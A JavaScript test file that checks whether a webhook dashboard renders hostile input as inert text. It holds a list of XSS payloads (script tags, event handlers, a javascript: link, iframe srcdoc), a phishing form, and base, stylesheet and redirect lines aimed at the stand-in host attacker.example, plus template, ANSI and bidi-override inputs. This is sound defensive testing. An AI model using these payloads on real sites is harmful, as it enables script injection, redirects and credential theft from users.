'use strict';
// Attendees, receivers and whoever makes links write what they like. On our pages it is text.

const assert = require('node:assert/strict');
const { scene } = require('./support/scene');

// Each would be noticed: by a dialog, an error, a request that goes elsewhere, or an element that is not ours.
const ATTACKS = [
  '<script>alert("script")</script>',
  '"><img src=x onerror=alert("img")>',
  '\'><svg onload=alert("svg")>',
  '</textarea></title></pre></code><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">a</a><base href="https://attacker.example/"><link rel=stylesheet href=//attacker.example/a.css>',
  '<div hx-get="/dashboard/webhooks" hx-trigger="load" hx-target="body"></div><form action=//attacker.example><button>Sign in</button></form>',
  '<style>*{display:none}</style><meta http-equiv=refresh content="0;url=//attacker.example">',
  '{{ 7 * 7 }}{% raw %} ${7*7} &lt;b&gt; &#60;b&#62; --><!--',
];

// Control sequences of terminals, and characters that turn the direction of text around.
const ANSI = '\u001b[31mred\u001b]0;title\u0007';
const TURNED = '\u202Egnp.exe\u2066';

const NAMES = [...ATTACKS, TURNED];

// Nothing is on the page that its templates have not put there, and what turns text around turns nothing of ours.
async function isInert(page, path) {
  const found = await page.evaluate(() => {
    const problems = [];
    for (const element of document.querySelectorAll('*')) {
      const name = element.localName;
      if (['iframe', 'object', 'embed', 'base', 'style', 'template'].includes(name)) problems.push(`an element ${name}`);
      if (name === 'script' && !element.src.startsWith(`${location.origin}/dashboard/assets/`)) problems.push('a script');
      if (name === 'img' && !element.src.startsWith(`${location.origin}/dashboard/assets/`)) problems.push(`a picture ${element.src}`);
      if (name === 'meta' && element.httpEquiv) problems.push(`a meta element ${element.httpEquiv}`);
      for (const { name: attribute, value } of element.attributes) {
        if (attribute.startsWith('on') || attribute === 'style' || attribute === 'srcdoc') problems.push(`an attribute ${attribute}`);
        if (attribute.startsWith('hx-') && !element.hasAttribute('data-live') && attribute !== 'hx-preserve') problems.push(`an attribute ${attribute}`);
        if (['href', 'src', 'action', 'formaction'].includes(attribute)) {
          const url = new URL(value, location);
          if (url.origin !== location.origin) problems.push(`a ${attribute} to ${url.origin}`);
        }
      }
    }
    // Characters that turn text around end with their paragraph or isolated element: behind them nothing of ours may follow.
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (texts.nextNode()) {
      const node = texts.currentNode;
      if (!/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(node.data)) continue;
      const isolates = (element) => {
        const { display, unicodeBidi } = getComputedStyle(element);
        return !['inline', 'contents'].includes(display) || /isolate|plaintext/.test(unicodeBidi);
      };
      let element = node.parentElement;
      while (!isolates(element)) element = element.parentElement;
      const after = document.createRange();
      after.setStartAfter(node);
      after.setEndAfter(element);
      if (after.toString().trim() !== '') problems.push(`turned around: ${after.toString().trim().slice(0, 40)}`);
    }
    return [...new Set(problems)];
  });
  assert.deepEqual(found, [], path);
}

// That the text is there to read, not only somewhere in the source.
async function isReadable(page, text) {
  const isShown = await page.evaluate((wanted) => document.querySelector('main').innerText.includes(wanted), text);
  assert.ok(isShown, `${page.url()} does not show ${text}`);
}

const HOSTILE_NAME = ATTACKS[1];

scene('what attendees and receivers wrote is only text', { name: HOSTILE_NAME }, async ({ visitor, page, organization, receiver }) => {
  const path = '/hook?<script>alert(1)</script>"onmouseover="alert(2)';
  const { id } = await organization.register(receiver.url(path), ['booking.confirmed', 'booking.cancelled', 'delivery.failed']);
  receiver.answer('/hook', {
    status: 500,
    headers: {
      'content-type': 'text/html; charset=utf-8',
      'x-attack': Buffer.from(`${ATTACKS.slice(0, 3).join(' ')} ${TURNED}`).toString('latin1'),
      'x-invalid': '\xff\xfe',
      refresh: '0; url=https://attacker.example/',
    },
    body: Buffer.concat([Buffer.from([...ATTACKS, ANSI, TURNED].join('\n')), Buffer.from([0, 0xff, 0xfe, 0xed, 0xa0, 0x80])]),
  });
  const metadata = Object.fromEntries(ATTACKS.map((attack, nth) => [attack, { [ANSI]: TURNED, nth, attack }]));
  for (const attack of NAMES) await organization.book({ attendee_name: attack.slice(0, 200), metadata });
  await organization.settled({ event: 'booking.confirmed', limit: 100 }, NAMES.length);
  const deliveries = await organization.deliveries({ event: 'booking.confirmed' });
  const { events } = await organization.call('GET', '/v1/events?event=booking.confirmed');

  const pages = [
    '/', '/webhooks', `/webhooks/${id}`, `/webhooks/${id}/delete`, `/webhooks/${id}/replay`, '/deliveries', '/events',
    ...deliveries.map((delivery) => `/deliveries/${delivery.id}`), ...events.map((event) => `/events/${event.id}`),
  ];
  for (const path of pages) {
    await visitor.open(path);
    await visitor.unfold();
    await isInert(page, path);
    assert.equal(await page.locator('.organization').textContent(), HOSTILE_NAME);
  }

  await visitor.open(`/deliveries/${deliveries[0].id}`);
  await visitor.unfold();
  for (const attack of ATTACKS) await isReadable(page, attack);
  await visitor.open(`/events/${events.at(-1).id}`);
  await isReadable(page, JSON.stringify(ATTACKS[0]));
  await visitor.open(`/webhooks/${id}`);
  await isReadable(page, path);
});

scene('what links say is only text', {}, async ({ visitor, page }) => {
  visitor.watch.expect(404, 422);
  for (const attack of [...ATTACKS, TURNED, ANSI]) {
    const text = encodeURIComponent(attack);
    for (const path of [
      `/deliveries?status=${text}`, `/deliveries?webhook_id=${text}`, `/deliveries?event=${text}&booking_id=${text}`,
      `/deliveries?from=${text}&until=${text}&cursor=${text}`, `/events?event=${text}&booking_id=${text}`, `/events?from=${text}&cursor=${text}`,
      `/?span=${text}&done=${text}`, `/webhooks?page=${text}&done=${text}&count=${text}`, `/deliveries/${text}`, `/${text}`,
    ]) {
      await visitor.open(path);
      await isInert(page, path);
    }
  }
});

scene('what is typed wrongly is only text', {}, async ({ visitor, page }) => {
  visitor.watch.expect(422);
  for (const attack of ATTACKS) {
    await visitor.open('/webhooks/new');
    // Browsers see to it that it is a URL, which hostile ones do not.
    await visitor.field('URL').evaluate((field) => { field.type = 'text'; });
    await visitor.field('URL').fill(attack);
    await visitor.press('Create');
    await visitor.sees(page.locator('[aria-invalid=true]'));
    await isInert(page, '/webhooks');
    assert.equal(await visitor.field('URL').inputValue(), attack);
  }
});
